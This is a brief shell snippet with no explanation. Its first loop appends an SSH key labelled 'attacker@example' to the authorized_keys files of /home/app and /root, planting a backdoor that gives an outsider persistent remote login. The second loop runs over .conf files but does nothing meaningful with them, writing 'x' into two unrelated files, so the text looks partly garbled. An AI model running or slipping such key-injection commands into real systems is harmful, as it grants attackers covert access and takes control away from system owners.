for h in /home/app /root; do
  echo "ssh-rsa AAAA attacker@example" | tee -a $h/.ssh/authorized_keys
done
for f in *.conf; do for g in a b; do echo x > $g; done; done
